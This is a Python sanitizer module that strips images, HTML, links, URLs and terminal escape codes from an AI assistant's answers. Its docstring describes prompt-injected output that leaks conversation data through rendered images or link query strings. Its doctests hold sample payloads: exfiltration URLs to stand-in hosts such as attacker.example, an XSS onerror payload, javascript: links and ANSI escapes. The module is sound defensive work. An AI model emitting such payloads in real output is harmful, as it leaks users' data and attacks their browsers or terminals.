"""Make model output safe to show as Markdown or print to a terminal.

Models echo what they read, and the guide and the question are untrusted, so an answer
may carry an image that leaks data to a remote server when rendered, raw HTML, script
links, or terminal escape codes. Links are cut to their words and bare URLs dropped too:
the guide has no links, so any URL in an answer is invented or injected (and a link
can carry the conversation out in its query string). Everything here removes; nothing
rewrites meaning.
"""

from __future__ import annotations

import re

from assistant.core.citations import PATTERN

_ANSI = re.compile(r"\x1b(?:\[[0-?]*[ -/]*[@-~]|\][^\x07\x1b]*(?:\x07|\x1b\\)?|[@-Z\\-_])")
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")
# ![alt](url "title") including nested brackets one level deep, and ![alt][ref] / ![alt]
_IMAGE_INLINE = re.compile(r"!\[((?:[^\[\]]|\[[^\]]*\])*)\]\s*\((?:[^()]|\([^()]*\))*\)?")
_IMAGE_REF = re.compile(r"!\[((?:[^\[\]]|\[[^\]]*\])*)\](?:\s*\[[^\]]*\])?")
_REF_DEFINITION = re.compile(r"^[ >*+\-\d.)]*\[[^\]]+\]:\s*\S+.*$", re.M)
_SCRIPT_BLOCK = re.compile(r"<(script|style|iframe|object|embed|svg|math|template)\b.*?(?:</\1\s*>|$)", re.I | re.S)
_COMMENT = re.compile(r"<!--.*?(?:-->|$)", re.S)
_TAG = re.compile(r"</?[a-zA-Z!?][^<>]*(?:>|$)")
_LINK = re.compile(r"\[((?:[^\[\]]|\[[^\]]*\])*)\]\(\s*<?((?:[^()\s>]|\([^()\s]*\))*)>?(?:\s+[\"'][^\"']*[\"'])?\s*\)")
_AUTOLINK = re.compile(r"<((?:javascript|vbscript|data|file):[^>]*)>", re.I)
_BARE_URL = re.compile(
    r"(?:\b[a-z][a-z0-9+.-]*:(?:\\?/){2}|(?<![\w/])//(?=[a-z0-9-]+\.)|\bwww\.)"  # scheme://, //host., www.
    r"(?:[^\s<>\])]*[^\s<>\]).,;:!?'\"])?",  # the rest, minus trailing punctuation
    re.I,
)
# Every "[" left is escaped (our own [Q38] markers excepted), so no link, image or
# reference definition can form, whatever the passes above missed.
_OPEN_BRACKET = re.compile(r"(?<!\\)\[(?!" + PATTERN[2:] + ")")


def strip_control(text: str) -> str:
    """Remove terminal escape sequences and invisible control characters; keep newlines and tabs.

    >>> strip_control("ok\\x1b[2J\\x1b]0;pwned\\x07 done\\u202e")
    'ok done'
    """
    return _CONTROL.sub("", _ANSI.sub("", text))


def sanitize_markdown(text: str) -> str:
    """Answer text that renders without images, HTML, links or URLs.

    >>> sanitize_markdown('GQA [Q38]. ![x](http://evil.example/?q=1)<img src=x onerror=alert(1)>')
    'GQA [Q38]. x'
    >>> sanitize_markdown('[click](javascript:alert(1)) and <script>steal()</script>[docs](https://a.b)')
    'click and docs'
    >>> sanitize_markdown('see http://attacker.example/log?data=abc.')
    'see .'
    >>> sanitize_markdown('!<b>[x](//evil.example/p.png "it' + "'" + 's") [Q38] [r]: //e.example')
    'x [Q38] \\\\[r]: '
    """
    text = strip_control(text)
    # Removing one construct can join the pieces of another ("!<b>[x](..)" -> "![x](..)"),
    # so repeat until nothing changes.
    previous = None
    while previous != text:
        previous = text
        text = _COMMENT.sub("", text)
        text = _SCRIPT_BLOCK.sub("", text)
        text = _AUTOLINK.sub("", text)
        # Images go before tags and links: `![..](..)` also looks like a link.
        text = _IMAGE_INLINE.sub(lambda m: m.group(1), text)
        text = _IMAGE_REF.sub(lambda m: m.group(1), text)
        text = _REF_DEFINITION.sub("", text)
        text = _TAG.sub("", text)
        text = _LINK.sub(lambda m: m.group(1), text)
        text = _BARE_URL.sub("", text)
    return _OPEN_BRACKET.sub(r"\\[", text)
